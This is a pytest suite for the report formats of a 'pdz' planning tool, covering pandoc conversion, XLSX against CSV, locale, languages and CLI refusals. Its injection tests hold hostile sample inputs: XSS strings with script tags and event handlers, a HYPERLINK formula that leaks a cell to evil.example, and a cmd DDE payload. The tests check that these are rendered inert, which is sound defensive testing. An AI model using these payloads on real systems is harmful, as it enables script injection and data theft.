#!/usr/bin/python3
# test-report-formats.py: the files `pdz report` writes, read by the tools
# their readers use
#
# SPDX-License-Identifier: LGPL-2.1-or-later
#
# - pandoc converts the Markdown to DOCX and ODT, and its reading of the
#   Markdown holds no markup that came from the plan;
# - openpyxl reads the XLSX and finds the rows of the CSV tables;
# - every objective, action, project and partner of the example plan is
#   in the HTML and in the Markdown;
# - the injection plan (tests/data/injection.json) comes out inert in
#   every format;
# - the Italian and the English reports hold no fixed text of the other
#   language (the plan's own text is replaced by tokens first);
# - the command refuses to overwrite its input, picks the format from the
#   extension of -o (and refuses one that names none), makes no directory
#   but the one a CSV report of every table is, and refuses the formats
#   this build leaves out;
# - characters XML forbids (tests/data/xml-chars.json) never reach a file;
# - the locale of the process changes no byte of any format (with a locale
#   built by localedef from Debian's locales package; skipped without it).
#
# Run by meson with PDZ_TOOL (the pdz binary), PDZ_EXAMPLES_DIR and
# PDZ_TEST_DATA_DIR in the environment, under /usr/bin/python3 -m pytest.
# Needs the Debian packages pandoc and python3-openpyxl.

import csv
import html
import html.parser
import io
import json
import os
import pathlib
import re
import shutil
import subprocess
import zipfile

from xml.etree import ElementTree

import openpyxl
import pytest

SOURCE_ROOT = pathlib.Path(__file__).resolve().parents[1]
PDZ = os.environ.get('PDZ_TOOL', str(SOURCE_ROOT / '_build' / 'tools' / 'pdz'))
EXAMPLES_DIR = pathlib.Path(os.environ.get('PDZ_EXAMPLES_DIR', SOURCE_ROOT / 'examples' / 'data'))
TEST_DATA_DIR = pathlib.Path(os.environ.get('PDZ_TEST_DATA_DIR', SOURCE_ROOT / 'tests' / 'data'))
EXAMPLE = EXAMPLES_DIR / 'corsichese-2021-2023.json'
INJECTION = TEST_DATA_DIR / 'injection.json'
XML_CHARS = TEST_DATA_DIR / 'xml-chars.json'
STRINGS_DIR = SOURCE_ROOT / 'libpdz'

TABLES = ['objectives', 'actions', 'projects', 'partners', 'fundings']
DANGEROUS_FIRST = ('=', '+', '-', '@', '\t', '\r')

MONTHS = {
    'it': ['gennaio', 'febbraio', 'marzo', 'aprile', 'maggio', 'giugno', 'luglio',
           'agosto', 'settembre', 'ottobre', 'novembre', 'dicembre'],
    'en': ['January', 'February', 'March', 'April', 'May', 'June', 'July',
           'August', 'September', 'October', 'November', 'December'],
}


def pdz(*args, check=True, env=None, **kwargs):
    env = {**os.environ, 'LC_ALL': 'C.UTF-8', 'SOURCE_DATE_EPOCH': '1700000000', **(env or {})}
    result = subprocess.run([PDZ, *map(str, args)], capture_output=True, env=env, **kwargs)
    if check and result.returncode != 0:
        raise AssertionError('pdz %s failed (%d): %s' % (' '.join(map(str, args)), result.returncode,
                                                         result.stderr.decode()))
    return result


def unavailable_formats():
    """The formats `pdz report --help` says this build leaves out."""
    found = re.search(r'not in this build: ([a-z, ]+)', pdz('report', '--help').stdout.decode())
    return found.group(1).split(', ') if found else []


XLSX_AVAILABLE = 'xlsx' not in unavailable_formats()
needs_xlsx = pytest.mark.skipif(not XLSX_AVAILABLE, reason='this build has no XLSX writer (-Dxlsx=disabled)')


def report(plan, tmp_path, fmt, name, *options):
    out = tmp_path / name
    pdz('report', plan, '-f', fmt, '-o', out, *options)
    return out


def plan_texts(path):
    """The titles of the objectives, actions and projects and the names of the partners."""
    plan = json.loads(pathlib.Path(path).read_text(encoding='utf-8'))
    texts = []
    for objective in plan.get('objectives', []):
        texts.append(objective['title'])
        texts += [a['title'] for a in objective.get('actions', [])]
    for project in plan.get('projects', []):
        texts.append(project['title'])
        texts += [a['title'] for a in project.get('actions', [])]
    texts += [p['name'] for p in plan.get('partners', [])]
    return texts


class HtmlText(html.parser.HTMLParser):
    """Collects the text of a page, outside <style>, and its tags."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.parts = []
        self.tags = []
        self._style = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._style = tag == 'style'

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag):
        if tag == 'style':
            self._style = False
        self.parts.append(' ')

    def handle_data(self, data):
        if not self._style:
            self.parts.append(data)

    @property
    def text(self):
        return re.sub(r'\s+', ' ', ''.join(self.parts))


def parse_html(text):
    parser = HtmlText()
    parser.feed(text)
    parser.close()
    return parser


def unescape_markdown(text):
    text = re.sub(r'\\\n\s*', ' ', text)
    return re.sub(r'\\([!-/:-@\[-`{-~])', r'\1', text)


def squash(text):
    return re.sub(r'\s+', ' ', text)


# pandoc ------------------------------------------------------------------

def test_pandoc_docx_and_odt(tmp_path):
    md = report(EXAMPLE, tmp_path, 'md', 'report.md')
    svgs = sorted(p.name for p in tmp_path.glob('report-*.svg'))
    assert svgs == ['report-1.svg']

    for ext in ('docx', 'odt'):
        out = tmp_path / ('report.' + ext)
        subprocess.run(['pandoc', md.name, '-o', out.name], cwd=tmp_path, check=True,
                       capture_output=True)
        with zipfile.ZipFile(out) as z:
            names = z.namelist()
            body = z.read('word/document.xml' if ext == 'docx' else 'content.xml').decode()
        # the chart went in, as an image (the example has one)
        assert sum(1 for n in names if n.endswith('.svg')) == 1, names
        text = html.unescape(re.sub(r'<[^>]+>', '', body))
        for title in ('Schema di sintesi', 'Agenzia dell’Abitare', 'Emergenza abitativa',
                      'Progetti sovra-ambito (n° 2)', 'Marzo 2022 – Ottobre 2023'):
            assert title in text, (ext, title)


def pandoc_ast(markdown, reader='markdown'):
    result = subprocess.run(['pandoc', '-f', reader, '-t', 'json'], input=markdown.encode(),
                            capture_output=True, check=True)
    return json.loads(result.stdout)


def walk(node):
    if isinstance(node, dict):
        yield node
        for value in node.values():
            yield from walk(value)
    elif isinstance(node, list):
        for value in node:
            yield from walk(value)


def stringify(node):
    """The text of a pandoc AST node, with pandoc's smart quotes made straight again."""
    if isinstance(node, list):
        return ''.join(stringify(n) for n in node)
    if not isinstance(node, dict):
        return ''
    kind = node.get('t')
    if kind == 'Str':
        return node['c'].translate(str.maketrans('“”‘’', '""\'\''))
    if kind in ('Space', 'SoftBreak', 'LineBreak'):
        return ' '
    if kind == 'Quoted':
        quote = "'" if node['c'][0]['t'] == 'SingleQuote' else '"'
        return quote + stringify(node['c'][1]) + quote
    if kind in ('Header', 'Image', 'Link', 'Code', 'CodeBlock'):
        return stringify(node['c'][-2] if kind in ('Image', 'Link') else node['c'][-1])
    return stringify(node.get('c', []))


def test_pandoc_reads_structure(tmp_path):
    md = pdz('report', EXAMPLE, '-f', 'md').stdout.decode()
    ast = pandoc_ast(md)
    blocks = ast['blocks']
    headers = [(b['c'][0], stringify(b['c'][2])) for b in blocks if b['t'] == 'Header']
    assert headers[0] == (1, 'Piano di Zona 2021-2023')
    level2 = [t for level, t in headers if level == 2]
    for expected in ('Schema di sintesi', 'Il monitoraggio in cifre', 'Indice dei partner',
                     'Quadro dei finanziamenti', 'Progetti sovra-ambito (n° 2)'):
        assert expected in level2
    assert sum(1 for b in blocks if b['t'] == 'Table') >= 3
    images = [n for n in walk(blocks) if n.get('t') == 'Image']
    assert len(images) == 1
    assert all(i['c'][2][0].startswith('data:image/svg+xml;base64,') for i in images)


LIST_MARKERS = ['a) prima voce', 'B. seconda voce', 'iv. quarta voce', '(c) terza voce', '1. numerata',
                '2023) anno', '- trattino', '* asterisco', '+ più', '# titolo', '#. cancelletto']


def test_pandoc_list_markers_stay_text(tmp_path):
    # Plan text that begins like a list item (pandoc's fancy_lists too) or a
    # heading stays text: no ordered list, no list or heading of its own
    plan = json.loads(EXAMPLE.read_text(encoding='utf-8'))
    plan['objectives'] = [{
        'id': 'o', 'title': 'a) obiettivo', 'description': '\n'.join(LIST_MARKERS),
        'actions': [{'id': 'a%d' % i, 'title': t} for i, t in enumerate(LIST_MARKERS)],
    }]
    plan['projects'] = []
    path = tmp_path / 'markers.json'
    path.write_text(json.dumps(plan, ensure_ascii=False), encoding='utf-8')
    ast = pandoc_ast(pdz('report', path, '-f', 'md').stdout.decode())
    nodes = list(walk(ast['blocks']))
    assert not [n for n in nodes if n.get('t') == 'OrderedList']
    headers = [stringify(n['c'][2]) for n in nodes if n.get('t') == 'Header']
    assert 'titolo' not in headers and 'cancelletto' not in ' '.join(headers)
    # the actions are one list, each item its title as written
    lists = [n for n in ast['blocks'] if n.get('t') == 'BulletList'
             and stringify(n['c'][0]).startswith(LIST_MARKERS[0])]
    assert len(lists) == 1
    items = [stringify(item).split(' non indicato')[0] for item in lists[0]['c']]
    assert items == LIST_MARKERS
    assert not [n for n in walk(lists[0]['c']) if n.get('t') in ('BulletList', 'OrderedList', 'Header')]
    # and the description, line by line
    paragraphs = [stringify(b) for b in ast['blocks'] if b.get('t') == 'Para']
    assert ' '.join(LIST_MARKERS) in paragraphs


# XLSX against CSV ----------------------------------------------------------

def csv_rows(path, delimiter=','):
    data = path.read_bytes()
    if delimiter == ';':
        assert data.startswith(b'\xef\xbb\xbf')
        data = data[3:]
    else:
        assert not data.startswith(b'\xef\xbb\xbf')
    text = data.decode('utf-8')
    # every record ends with CRLF; bare LF and CR only inside quoted fields
    unquoted = re.sub(r'"(?:[^"]|"")*"', '', text)
    assert unquoted.endswith('\r\n')
    assert '\n' not in unquoted.replace('\r\n', '') and '\r' not in unquoted.replace('\r\n', '')
    return list(csv.reader(io.StringIO(text, newline=''), delimiter=delimiter))


def xlsx_text(value):
    """A string of a workbook, its _xHHHH_ escapes (OOXML's for control characters) decoded."""
    return re.sub(r'_x([0-9A-Fa-f]{4})_', lambda m: chr(int(m.group(1), 16)), value)


def same_cell(csv_cell, xlsx_cell, decimal_mark):
    if xlsx_cell is None:
        return csv_cell == ''
    if isinstance(xlsx_cell, (int, float)):
        return csv_cell != '' and float(csv_cell.replace(decimal_mark, '.')) == pytest.approx(xlsx_cell)
    if csv_cell.startswith("'") and csv_cell[1:2] in DANGEROUS_FIRST:
        csv_cell = csv_cell[1:]
    return csv_cell == xlsx_text(xlsx_cell)


@needs_xlsx
@pytest.mark.parametrize('plan', [EXAMPLE, INJECTION, XML_CHARS], ids=['example', 'injection', 'xml-chars'])
@pytest.mark.parametrize('dialect', ['rfc4180', 'excel-it'])
def test_xlsx_rows_match_csv(tmp_path, plan, dialect):
    tables = report(plan, tmp_path, 'csv', 'tables', '--csv-dialect', dialect)
    xlsx = report(plan, tmp_path, 'xlsx', 'report.xlsx')
    workbook = openpyxl.load_workbook(xlsx)
    sheets = workbook.sheetnames
    assert sheets[0] == 'Sintesi'
    assert len(sheets) == 1 + len(TABLES)
    delimiter = ';' if dialect == 'excel-it' else ','
    decimal_mark = ',' if dialect == 'excel-it' else '.'

    for table, sheet_name in zip(TABLES, sheets[1:]):
        sheet = workbook[sheet_name]
        rows = csv_rows(tables / (table + '.csv'), delimiter)
        cells = [list(r) for r in sheet.iter_rows(values_only=True)]
        assert len(cells) == len(rows), table
        for csv_row, xlsx_row in zip(rows, cells):
            assert len(csv_row) == len(xlsx_row), table
            for a, b in zip(csv_row, xlsx_row):
                assert same_cell(a, b, decimal_mark), (table, a, b)
        # a frozen header row with an autofilter over the table
        assert sheet.freeze_panes == 'A2'
        assert sheet.auto_filter.ref.startswith('A1:')

    # amounts are numbers in a euro format; dates have a sortable ISO twin
    fundings = workbook[sheets[-1]]
    header = [c.value for c in fundings[1]]
    amount = header.index('Importo (euro)')
    for row in fundings.iter_rows(min_row=2):
        cell = row[amount]
        if cell.value is not None:
            assert cell.data_type == 'n'
            assert '€' in cell.number_format
    actions = workbook[sheets[2]]
    header = [c.value for c in actions[1]]
    date, iso = header.index('Data'), header.index('Data (ISO)')
    dated = [(r[date], r[iso]) for r in actions.iter_rows(min_row=2, values_only=True) if r[iso]]
    for shown, sortable in dated:
        assert re.fullmatch(r'\d{4}(-\d\d(-\d\d)?)?', sortable)
        assert sortable[:4] in shown
    if plan == EXAMPLE:
        # the example's actions have no date of their own: the seed's dates
        # are milestones, beside their bullet
        assert not dated
        milestones = [r[header.index('Tappe')] for r in actions.iter_rows(min_row=2, values_only=True)]
        assert any('24 gennaio 2023 — ' in (m or '') for m in milestones)
        assert any('novembre 2023 — ' in (m or '') for m in milestones)
    else:
        assert dated


# The example, whole ---------------------------------------------------------

def test_example_in_html_and_markdown(tmp_path):
    page = parse_html(report(EXAMPLE, tmp_path, 'html', 'report.html').read_text(encoding='utf-8'))
    md = unescape_markdown(report(EXAMPLE, tmp_path, 'md', 'report.md').read_text(encoding='utf-8'))
    texts = plan_texts(EXAMPLE)
    assert len(texts) > 80
    missing_html = [t for t in texts if squash(t) not in page.text]
    missing_md = [t for t in texts if squash(t) not in squash(md)]
    assert not missing_html
    assert not missing_md


def test_sub_actions_under_their_bullet(tmp_path):
    # the points under a bullet ("o Ricerca valutativa ..." in the seed) are
    # a list inside their action's item, in HTML and in Markdown (pandoc)
    html_text = report(EXAMPLE, tmp_path, 'html', 'report.html').read_text(encoding='utf-8')
    nested = re.search(r'<li>Protocollo operativo dell’Ufficio di Piano[^\n]*<ul class="sub">\n<li>Ricerca valutativa '
                       r'empirica[^\n]*</li>\n<li>Rinnovo «ponte»[^\n]*<ul class="sub">\n<li>[^\n]*tappa', html_text)
    assert nested, 'the sub-actions are not nested under their action'
    md = report(EXAMPLE, tmp_path, 'md', 'report.md')
    ast = json.loads(subprocess.run(['pandoc', '-f', 'markdown', '-t', 'json', md], check=True,
                                    capture_output=True).stdout)
    lists = [b for b in walk(ast['blocks']) if b.get('t') == 'BulletList']
    inner = [b for b in lists if 'Ricerca valutativa' in stringify(b) and 'Protocollo operativo' not in stringify(b)]
    assert len(inner) == 1 and len(inner[0]['c']) == 2, 'pandoc reads no list of the two sub-actions'
    # inside the item of their action
    assert any(inner[0] in item and 'Protocollo operativo' in stringify(item) for b in lists for item in b['c'])


def test_html_self_contained(tmp_path):
    page = parse_html(report(EXAMPLE, tmp_path, 'html', 'report.html').read_text(encoding='utf-8'))
    tags = [t for t, _ in page.tags]
    assert 'script' not in tags
    assert 'link' not in tags and 'img' not in tags and 'iframe' not in tags
    assert tags.count('svg') == 1
    for tag, attrs in page.tags:
        for name, value in attrs:
            assert name not in ('src', 'srcset', 'background')
            if name == 'href':
                assert value.startswith(('#', 'http://', 'https://', 'mailto:')), value


# Injection --------------------------------------------------------------------

INJECTED = [
    "Piano <script>alert('title')</script> di prova",
    "\"><img src=x onerror=alert('ambito')>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Clicca")',
    "</style><script>alert('style')</script><!--",
    'a | b *grassetto* _corsivo_ `codice`',
    "Progetto \"><svg onload=alert('project')>",
]


def assert_inert_html(text):
    page = parse_html(text)
    for tag, attrs in page.tags:
        assert tag not in ('script', 'img', 'iframe', 'object', 'embed', 'link', 'base', 'form'), tag
        for name, value in attrs:
            assert not name.startswith('on'), (tag, name)
            if name in ('href', 'src'):
                assert not value.lower().startswith(('javascript:', 'data:text', 'vbscript:')), value
    return page


def test_injection_html(tmp_path):
    page = assert_inert_html(report(INJECTION, tmp_path, 'html', 'report.html', '--diagnostics')
                             .read_text(encoding='utf-8'))
    for text in INJECTED:
        assert text in page.text, text
    # the charts are drawn: the plan's macroarea and sources are in them, as
    # text (two sources state an amount; too few dates for a chart over time)
    assert [t for t, _ in page.tags].count('svg') == 2


def test_injection_markdown(tmp_path):
    md = report(INJECTION, tmp_path, 'md', 'report.md', '--diagnostics').read_text(encoding='utf-8')
    ast = pandoc_ast(md)
    kinds = {n.get('t') for n in walk(ast['blocks']) if isinstance(n, dict)}
    for forbidden in ('RawBlock', 'RawInline', 'Code', 'CodeBlock', 'Math', 'Cite',
                      'Strikeout', 'Subscript', 'Superscript', 'OrderedList'):
        assert forbidden not in kinds, forbidden
    # the one rule is the report's, above the office's contacts
    assert sum(1 for b in ast['blocks'] if b['t'] == 'HorizontalRule') == 1
    # links only where the report puts them: safe URLs
    for link in (n for n in walk(ast['blocks']) if n.get('t') == 'Link'):
        assert link['c'][2][0].startswith(('https://', 'http://', 'mailto:')), link['c'][2][0]
    # headings are the report's, never the plan's "# Titolo finto"
    headers = [stringify(b['c'][2]) for b in walk(ast['blocks']) if b.get('t') == 'Header']
    assert not any('Titolo finto' in h for h in headers)
    # the plan's emphasis marks are text, not emphasis
    emphasised = {stringify(n['c']).strip() for n in walk(ast['blocks']) if n.get('t') in ('Emph', 'Strong')}
    assert not emphasised & {'grassetto', 'corsivo', 'stelle', 'trattini', 'html'}
    # all the text is there, as pandoc reads it without its typographic
    # niceties ("--" for an en dash, curly quotes)
    text = squash(stringify(pandoc_ast(md, 'markdown-smart')['blocks']))
    for injected in INJECTED:
        assert squash(injected) in text, injected

    # and through pandoc to HTML, still no markup
    converted = subprocess.run(['pandoc', '-f', 'markdown', '-t', 'html'], input=md.encode(),
                               capture_output=True, check=True).stdout.decode()
    page = parse_html(converted)
    for tag, attrs in page.tags:
        assert tag not in ('script', 'iframe', 'object', 'embed', 'svg'), tag
        if tag == 'img':
            assert dict(attrs)['src'].startswith('report-'), attrs
        for name, value in attrs:
            assert not name.startswith('on'), (tag, name)


@pytest.mark.parametrize('dialect', ['rfc4180', 'excel-it'])
def test_injection_csv(tmp_path, dialect):
    tables = report(INJECTION, tmp_path, 'csv', 'tables', '--csv-dialect', dialect)
    cells = []
    for table in TABLES:
        for row in csv_rows(tables / (table + '.csv'), ';' if dialect == 'excel-it' else ','):
            cells += row
    assert not [c for c in cells if c.startswith(DANGEROUS_FIRST)]
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Clicca")' in cells
    assert "'+SUM(A1:A9)" in cells
    assert "'@SUM(1+1) inizia con una chiocciola" in cells
    assert "'\tinizia con una tabulazione" in cells
    assert "'\rinizia con un ritorno a capo" in cells


@needs_xlsx
def test_injection_xlsx(tmp_path):
    workbook = openpyxl.load_workbook(report(INJECTION, tmp_path, 'xlsx', 'report.xlsx'))
    strings = []
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != 'f', (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    strings.append(cell.value)
    # stored as the text it is, a string that runs nothing
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Clicca")' in strings
    assert "=cmd|' /C calc'!A0" in strings
    with zipfile.ZipFile(tmp_path / 'report.xlsx') as z:
        for name in z.namelist():
            if name.startswith('xl/worksheets/'):
                assert b'<f>' not in z.read(name), name


# Characters XML forbids ------------------------------------------------------

# U+000B is what Word writes for a soft line break: pasted from a Word file,
# it is in plan titles. U+000B, U+001F, U+FFFE and U+FFFF are not XML.
FORBIDDEN_IN_XML = re.compile('[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]')


@needs_xlsx
def test_xml_chars_xlsx(tmp_path):
    plan_title = json.loads(XML_CHARS.read_text(encoding='utf-8'))['title']
    assert '\x0b' in plan_title and '\uffff' in plan_title
    xlsx = report(XML_CHARS, tmp_path, 'xlsx', 'report.xlsx')
    # every XML part of the workbook parses, the document properties too
    with zipfile.ZipFile(xlsx) as z:
        for name in z.namelist():
            if name.endswith(('.xml', '.rels')):
                ElementTree.fromstring(z.read(name))
        core = ElementTree.fromstring(z.read('docProps/core.xml'))
        title = core.find('{http://purl.org/dc/elements/1.1/}title').text
        assert title == 'Piano\ndi Zona 2021–2023'
    workbook = openpyxl.load_workbook(xlsx)
    strings = [c for sheet in workbook for row in sheet.iter_rows(values_only=True)
               for c in row if isinstance(c, str)]
    assert 'Piano\ndi Zona 2021–2023' in strings
    assert 'Obiettivo\nconcaratteri' in strings
    assert not [s for s in strings if FORBIDDEN_IN_XML.search(xlsx_text(s))]


def test_xml_chars_html_svg_markdown(tmp_path):
    page = report(XML_CHARS, tmp_path, 'html', 'report.html', '--diagnostics').read_text(encoding='utf-8')
    assert not FORBIDDEN_IN_XML.search(page)
    assert '<title>Piano\ndi Zona 2021–2023</title>' in page
    # the charts inside the HTML are XML
    svgs = re.findall(r'<svg .*?</svg>', page, re.DOTALL)
    assert len(svgs) == 2
    for svg in svgs:
        ElementTree.fromstring(svg)

    md = report(XML_CHARS, tmp_path, 'md', 'report.md', '--diagnostics').read_text(encoding='utf-8')
    assert not FORBIDDEN_IN_XML.search(md)
    charts = sorted(tmp_path.glob('report-*.svg'))
    assert len(charts) == 2
    for chart in charts:
        text = chart.read_text(encoding='utf-8')
        assert not FORBIDDEN_IN_XML.search(text)
        ElementTree.parse(chart)
    # and pandoc's DOCX of it, XML too, opens
    subprocess.run(['pandoc', 'report.md', '-o', 'report.docx'], cwd=tmp_path, check=True,
                   capture_output=True)
    with zipfile.ZipFile(tmp_path / 'report.docx') as z:
        ElementTree.fromstring(z.read('word/document.xml'))

    for table in TABLES:
        data = (report(XML_CHARS, tmp_path, 'csv', 'tables') / (table + '.csv')).read_text(encoding='utf-8')
        assert not FORBIDDEN_IN_XML.search(data), table


# The locale of the process -----------------------------------------------------

SVG_LENGTHS = ('x', 'y', 'x1', 'y1', 'x2', 'y2', 'width', 'height', 'r', 'cx', 'cy', 'dy',
               'stroke-width', 'font-size')


@pytest.fixture(scope='module')
def comma_locale(tmp_path_factory):
    """A locale with a decimal comma (it_IT.UTF-8), compiled into a temporary
    directory for LOCPATH: no root, no system locale needed."""
    localedef = shutil.which('localedef')
    if localedef is None:
        pytest.skip('localedef is missing (Debian package libc-bin)')
    if not pathlib.Path('/usr/share/i18n/locales/it_IT').exists():
        pytest.skip('/usr/share/i18n/locales/it_IT is missing (Debian package locales)')
    locpath = tmp_path_factory.mktemp('locales')
    result = subprocess.run([localedef, '-i', 'it_IT', '-f', 'UTF-8', str(locpath / 'it_IT.UTF-8')],
                            capture_output=True)
    if result.returncode not in (0, 1) or not (locpath / 'it_IT.UTF-8').is_dir():
        pytest.skip('localedef cannot build it_IT.UTF-8: %s' % result.stderr.decode())
    # the locale works, and has a decimal comma
    check = subprocess.run(['locale', 'decimal_point'], capture_output=True,
                           env=dict(os.environ, LOCPATH=str(locpath), LC_ALL='it_IT.UTF-8'))
    assert check.stdout.decode().strip() == ',', check
    return {'LOCPATH': str(locpath), 'LC_ALL': 'it_IT.UTF-8'}


@pytest.mark.parametrize('fmt', ['html', 'md', pytest.param('xlsx', marks=needs_xlsx), 'csv'])
def test_locale_plays_no_part(tmp_path, comma_locale, fmt):
    options = ['--table', 'fundings', '--csv-dialect', 'excel-it'] if fmt == 'csv' else []
    outputs = {}
    for name, env in (('c', None), ('it', comma_locale)):
        out = tmp_path / name
        out.mkdir()
        pdz('report', EXAMPLE, '-f', fmt, '-o', out / ('report.' + fmt), *options, env=env)
        outputs[name] = out
    for path in sorted(outputs['c'].iterdir()):
        assert path.read_bytes() == (outputs['it'] / path.name).read_bytes(), path.name

    # every length of the charts, made under the comma locale, is a number
    if fmt in ('html', 'md'):
        if fmt == 'html':
            svgs = re.findall(r'<svg .*?</svg>', (outputs['it'] / 'report.html').read_text(encoding='utf-8'),
                              re.DOTALL)
        else:
            svgs = [p.read_text(encoding='utf-8') for p in sorted(outputs['it'].glob('report-*.svg'))]
        assert len(svgs) == 1
        lengths = 0
        for svg in svgs:
            root = ElementTree.fromstring(re.sub(r'^<\?xml[^>]*\?>\s*', '', svg))
            for element in root.iter():
                for name in SVG_LENGTHS:
                    if name in element.attrib:
                        float(element.attrib[name])
                        lengths += 1
        assert lengths > 100


# Languages --------------------------------------------------------------------

def catalog(language):
    """The fixed texts of libpdz in @language, read from the catalogue's source."""
    source = (STRINGS_DIR / ('pdz-catalog-%s.c' % language)).read_text(encoding='utf-8')
    strings = {}
    for m in re.finditer(r'\[(PDZ_MSG_\w+)\]\s*=\s*((?:"(?:[^"\\]|\\.)*"\s*)+),', source):
        parts = re.findall(r'"((?:[^"\\]|\\.)*)"', m.group(2))
        strings[m.group(1)] = ''.join(parts).encode().decode('unicode_escape').encode('latin-1').decode('utf-8')
    assert len(strings) > 150
    return strings


def foreign_pieces(own, other):
    mine = {s.lower() for s in catalog(own).values()}
    pieces = set()
    for text in catalog(other).values():
        if text.lower() in mine:
            continue
        for piece in re.split(r'%[0-9]*[sudi]', text):
            piece = piece.strip(' ().:;,')
            if len(piece) >= 4:
                pieces.add(piece)
    return pieces | set(MONTHS[other])


def neutral_plan(path, out):
    """The plan with each of its texts and ids replaced by a token."""
    plan = json.loads(path.read_text(encoding='utf-8'))
    ids = {}
    counter = iter(range(1, 100000))

    def tok():
        return 'X%04d' % next(counter)

    def ident(value):
        if value not in ids:
            ids[value] = tok()
        return ids[value]

    keep = {'format', 'language', 'start', 'end', 'date', 'end-date', 'status', 'kind',
            'role', 'scope', 'origin'}
    references = {'id', 'macroarea', 'partner', 'lead', 'lead-municipality'}
    reference_lists = {'municipalities', 'projects', 'objectives'}

    def walk_plan(node, key=None):
        if isinstance(node, dict):
            return {k: walk_plan(v, k) for k, v in node.items()}
        if isinstance(node, list):
            if key in reference_lists and all(isinstance(v, str) for v in node):
                return [ident(v) for v in node]
            if key == 'links':
                return ['https://example.org/' for _ in node]
            return [walk_plan(v, key) for v in node]
        if isinstance(node, str):
            if key in keep:
                return node
            if key in references:
                return ident(node)
            if key == 'email':
                return 'x@example.org'
            if key == 'website':
                return 'https://example.org/'
            return tok()
        return node

    out.write_text(json.dumps(walk_plan(plan), ensure_ascii=False, indent=2), encoding='utf-8')
    return out


def assert_pure(text, own, other, what):
    for piece in sorted(foreign_pieces(own, other)):
        pattern = r'(?<!\w)%s(?!\w)' % re.escape(piece)
        found = re.search(pattern, text, re.IGNORECASE)
        assert not found, 'the %s report in %s holds “%s”, a text of the %s catalog' % (
            what, own, found.group(0), other)


@pytest.mark.parametrize('own,other', [('it', 'en'), ('en', 'it')])
def test_language_purity(tmp_path, own, other):
    plan = neutral_plan(EXAMPLE, tmp_path / 'neutral.json')
    # no leftover of the plan's text
    assert 'Corsichese' not in plan.read_text(encoding='utf-8')

    page = parse_html(report(plan, tmp_path, 'html', 'r.html', '--lang', own).read_text(encoding='utf-8'))
    assert_pure(page.text, own, other, 'HTML')

    md = report(plan, tmp_path, 'md', 'r.md', '--lang', own).read_text(encoding='utf-8')
    assert_pure(md, own, other, 'Markdown')

    tables = report(plan, tmp_path, 'csv', 'tables', '--lang', own)
    for table in TABLES:
        assert_pure((tables / (table + '.csv')).read_text(encoding='utf-8'), own, other, 'CSV')

    if XLSX_AVAILABLE:
        workbook = openpyxl.load_workbook(report(plan, tmp_path, 'xlsx', 'r.xlsx', '--lang', own))
        strings = [workbook.sheetnames[0]] + workbook.sheetnames[1:]
        for sheet in workbook:
            strings += [c for row in sheet.iter_rows(values_only=True) for c in row if isinstance(c, str)]
        assert_pure('\n'.join(strings), own, other, 'XLSX')

    # the example's one chart: too few dates for one over time, no amounts
    svgs = list(tmp_path.glob('r-*.svg'))
    assert len(svgs) == 1
    for svg in svgs:
        assert_pure(re.sub(r'<[^>]+>', ' ', svg.read_text(encoding='utf-8')), own, other, 'SVG')

    if 'pdf' not in unavailable_formats():
        pdf = report(plan, tmp_path, 'pdf', 'r.pdf', '--lang', own)
        text = subprocess.run(['pdftotext', pdf, '-'], capture_output=True, check=True).stdout.decode()
        assert_pure(text, own, other, 'PDF')

    if 'odp' not in unavailable_formats():
        deck = report(plan, tmp_path, 'odp', 'r.odp', '--lang', own)
        with zipfile.ZipFile(deck) as z:
            for name in ('content.xml', 'meta.xml'):
                assert_pure(re.sub(r'<[^>]+>', ' ', z.read(name).decode()), own, other, 'ODP')


def test_language_option_wins(tmp_path):
    italian = parse_html(pdz('report', EXAMPLE).stdout.decode()).text
    english = parse_html(pdz('report', EXAMPLE, '--lang', 'en').stdout.decode()).text
    assert 'Schema di sintesi' in italian and 'Summary' not in italian
    assert 'Summary' in english and 'Schema di sintesi' not in english
    assert '(March 2022 – October 2023)' in english
    assert 'Report generated on 14 November 2023' in english


# The command --------------------------------------------------------------------

def test_cli_refuses_to_overwrite_input(tmp_path):
    plan = tmp_path / 'plan.json'
    shutil.copy(EXAMPLE, plan)
    before = plan.read_bytes()
    (tmp_path / 'link.json').symlink_to(plan)
    os.link(plan, tmp_path / 'hard.json')

    for out in (plan, tmp_path / '.' / 'plan.json', tmp_path / 'link.json', tmp_path / 'hard.json'):
        # -f: .json names no report format, which is refused before this
        result = pdz('report', plan, '-f', 'html', '-o', out, check=False)
        assert result.returncode == 2, out
        assert result.stderr.decode().startswith('pdz: ')
        assert 'refusing to overwrite the input file' in result.stderr.decode()
        assert plan.read_bytes() == before
    result = pdz('report', plan, '-o', plan, check=False)
    assert result.returncode == 2
    assert 'the extension ".json" names no report format' in result.stderr.decode()
    assert plan.read_bytes() == before

    # nor one of the files a report writes beside or inside its output
    chart_named_like_input = tmp_path / 'r-1.svg'
    shutil.copy(EXAMPLE, chart_named_like_input)
    result = pdz('report', chart_named_like_input, '-f', 'md', '-o', tmp_path / 'r.md', check=False)
    assert result.returncode == 2
    assert 'refusing' in result.stderr.decode()

    table_named_like_input = tmp_path / 'tables' / 'actions.csv'
    table_named_like_input.parent.mkdir()
    shutil.copy(EXAMPLE, table_named_like_input)
    result = pdz('report', table_named_like_input, '-f', 'csv', '-o', tmp_path / 'tables', check=False)
    assert result.returncode == 2
    assert json.loads(table_named_like_input.read_text(encoding='utf-8'))['format'] == 'pdz'


@pytest.mark.parametrize('args,message', [
    (['--lang', 'de'], '--lang'),
    (['-f', 'tiff'], '--format: unknown format "tiff"'),
    (['-f', 'csv'], 'directory'),
    (['-f', 'csv', '--table', 'budgets'], '--table'),
    (['--table', 'actions'], '--table'),
    (['-f', 'csv', '--table', 'actions', '--csv-dialect', 'excel-fr'], '--csv-dialect'),
    (['--date', '2023-11'], '--date'),
    (['--date', 'soon'], '--date'),
    # an extension that names no format is no wish for HTML
    (['-o', 'r.txt'], 'r.txt: the extension ".txt" names no report format'),
    (['-o', 'report'], 'report: no extension to tell the format by'),
    (['-o', 'tables/'], 'no extension'),
])
